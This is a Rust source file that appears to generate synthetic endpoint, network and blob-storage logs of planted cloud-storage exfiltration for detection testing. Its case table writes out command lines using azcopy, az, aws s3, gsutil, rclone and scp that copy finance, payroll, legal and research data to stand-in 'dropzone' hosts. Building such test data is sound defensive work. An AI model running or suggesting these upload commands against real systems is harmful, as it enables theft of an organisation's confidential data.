//! Planted `cli_storage_uploads`: command line tools that send data to a storage service.

use super::super::network::NetworkRow;
use super::super::process::ProcessRow;
use super::super::storage::BlobRow;
use super::super::truth::Attack;
use super::super::world::{Host, Role};
use super::{HOUR_US, MINUTE_US, Planner, SECOND_US, text};

/// A way of sending data to a storage service.
pub(super) struct Upload {
    pub(super) id: &'static str,
    pub(super) file: &'static str,
    pub(super) command: &'static str,
    pub(super) remote_url: &'static str,
    pub(super) remote_address: &'static str,
    pub(super) port: i32,
    pub(super) connections: usize,
    /// The storage account and the writes in its log, if the lake has that log.
    pub(super) blob_writes: Option<(&'static str, usize)>,
    pub(super) sizes: Sizes,
}

/// Range of the bytes of an upload.
pub(super) struct Sizes {
    pub(super) of_connection: (i64, i64),
    pub(super) of_block: (i64, i64),
}

const BULK: Sizes = Sizes { of_connection: (5_000_000, 200_000_000), of_block: (1_000_000, 8_388_608) };

const CASES: [(Role, Upload); 7] = [
    (
        Role::Workstation,
        Upload {
            id: "upload-azcopy-500-writes",
            file: "azcopy.exe",
            command: r"azcopy.exe copy C:\Finance https://dropzone500.blob.core.windows.net/in?sv=2024-11-04 --recursive",
            remote_url: "dropzone500.blob.core.windows.net",
            remote_address: "203.0.113.110",
            port: 443,
            connections: 8,
            blob_writes: Some(("dropzone500", 500)),
            sizes: BULK,
        },
    ),
    (
        Role::LinuxServer,
        Upload {
            id: "upload-az-storage-50-writes",
            file: "az",
            command: "az storage blob upload --account-name dropzone50 --container-name in --file /srv/crm/export.bin",
            remote_url: "dropzone50.blob.core.windows.net",
            remote_address: "203.0.113.111",
            port: 443,
            connections: 3,
            blob_writes: Some(("dropzone50", 50)),
            sizes: BULK,
        },
    ),
    (
        Role::WindowsServer,
        Upload {
            id: "upload-azcopy-5-writes",
            file: "azcopy.exe",
            command: r"azcopy.exe copy D:\Legal\contracts.7z https://dropzone5.blob.core.windows.net/in?sv=2024-11-04",
            remote_url: "dropzone5.blob.core.windows.net",
            remote_address: "203.0.113.112",
            port: 443,
            connections: 1,
            blob_writes: Some(("dropzone5", 5)),
            sizes: BULK,
        },
    ),
    (
        Role::LinuxServer,
        Upload {
            id: "upload-aws-s3-4-connections",
            file: "aws",
            command: "aws s3 cp /srv/payroll s3://dropzone-a/in --recursive",
            remote_url: "dropzone-a.s3.amazonaws.com",
            remote_address: "203.0.113.113",
            port: 443,
            connections: 4,
            blob_writes: None,
            sizes: BULK,
        },
    ),
    (
        Role::LinuxServer,
        Upload {
            id: "upload-gsutil-2-connections",
            file: "gsutil",
            command: "gsutil -m cp -r /srv/projects gs://dropzone-b/in",
            remote_url: "storage.googleapis.com",
            remote_address: "203.0.113.114",
            port: 443,
            connections: 2,
            blob_writes: None,
            sizes: BULK,
        },
    ),
    (
        Role::Workstation,
        Upload {
            id: "upload-rclone-20-connections",
            file: "rclone.exe",
            command: r"rclone.exe copy \\files\research remote:dropzone-c --transfers 20",
            remote_url: "dropzone-c.ams3.digitaloceanspaces.com",
            remote_address: "203.0.113.115",
            port: 443,
            connections: 20,
            blob_writes: None,
            sizes: BULK,
        },
    ),
    (
        Role::LinuxServer,
        Upload {
            id: "upload-scp-1-connection",
            file: "scp",
            command: "scp /home/archive.bin ubuntu@ec2-203-0-113-116.compute-1.amazonaws.com:/data/",
            remote_url: "ec2-203-0-113-116.compute-1.amazonaws.com",
            remote_address: "203.0.113.116",
            port: 22,
            connections: 1,
            blob_writes: None,
            sizes: BULK,
        },
    ),
];

pub(super) fn plant(planner: &mut Planner) {
    for (turn, (role, upload)) in CASES.iter().enumerate() {
        let host = planner.endpoint(*role);
        let time = moment_within_hour(planner, turn as i64 + 2);
        let attack = send(planner, &host, time, upload);
        planner.finish(attack);
    }
}

/// Sends data from `host` from `time_us` on, within 11 minutes.
pub(super) fn send(planner: &mut Planner, host: &Host, time_us: i64, upload: &Upload) -> Attack {
    let process_id = Some(planner.process_id());
    let writes = upload.blob_writes.map_or(0, |(_, writes)| writes);
    let intensity = format!("{} connections, {writes} logged writes", upload.connections);
    let mut attack = Attack::new(upload.id, "cli_storage_uploads", &intensity, "T1567.002")
        .entity("device_name", &host.name)
        .entity("account_name", &host.account)
        .entity("command_line", upload.command)
        .entity("remote_url", upload.remote_url);
    let process = ProcessRow {
        time: time_us,
        device: text(&host.name),
        account: text(&host.account),
        command_line: text(upload.command),
        process_id,
        parent_file_name: text(if host.role == Role::LinuxServer { "bash" } else { "powershell.exe" }),
        file_name: text(upload.file),
        action: text("ProcessCreated"),
    };
    planner.add_process(&mut attack.planted, process);
    for _ in 0..upload.connections {
        let row = connection(planner, host, upload, time_us, process_id);
        planner.add_network(&mut attack.planted, row);
    }
    if let Some((account, writes)) = upload.blob_writes {
        attack = attack.entity("storage_account", account);
        for write in 0..writes {
            let row = blob_write(planner, host, upload, account, time_us, (write, writes));
            planner.add_blob(&mut attack.planted, row);
        }
    }
    attack
}

/// A time with room for all connections before the hour ends: across two hours they would also be an egress spike.
fn moment_within_hour(planner: &mut Planner, turn: i64) -> i64 {
    let moment = planner.moment_of_turn(turn, HOUR_US);
    moment - moment.rem_euclid(HOUR_US) + planner.rng.between(5 * MINUTE_US, 45 * MINUTE_US)
}

fn connection(
    planner: &mut Planner,
    host: &Host,
    upload: &Upload,
    start_us: i64,
    process_id: Option<i64>,
) -> NetworkRow<String> {
    NetworkRow {
        time: start_us + planner.rng.between(SECOND_US, 8 * MINUTE_US),
        device: text(&host.name),
        account: text(&host.account),
        process_id,
        remote_url: text(upload.remote_url),
        remote_address: text(upload.remote_address),
        remote_port: Some(upload.port),
        local_address: text(&host.address),
        bytes_sent: Some(planner.rng.between(upload.sizes.of_connection.0, upload.sizes.of_connection.1)),
        action: text("ConnectionSuccess"),
    }
}

/// One of the `of` writes of an upload: blocks, and last the block list that turns them into a blob.
fn blob_write(
    planner: &mut Planner,
    host: &Host,
    upload: &Upload,
    account: &str,
    start_us: i64,
    of: (usize, usize),
) -> BlobRow<String> {
    let (write, writes) = of;
    let is_last = write + 1 == writes;
    let operation = match write {
        _ if is_last => "PutBlockList",
        0 => "PutBlob",
        _ => "PutBlock",
    };
    let after_us = if is_last { 11 * MINUTE_US } else { planner.rng.between(2 * SECOND_US, 10 * MINUTE_US) };
    BlobRow {
        time: start_us + after_us,
        account: text(account),
        operation: text(operation),
        request_size: Some(if is_last {
            4_096
        } else {
            planner.rng.between(upload.sizes.of_block.0, upload.sizes.of_block.1)
        }),
        status: text("201"),
        caller: Some(format!("{}:{}", host.address, 50_000 + write % 8)),
        uri: Some(format!("https://{account}.blob.core.windows.net:443/in/part-{:04}", write / 50)),
    }
}
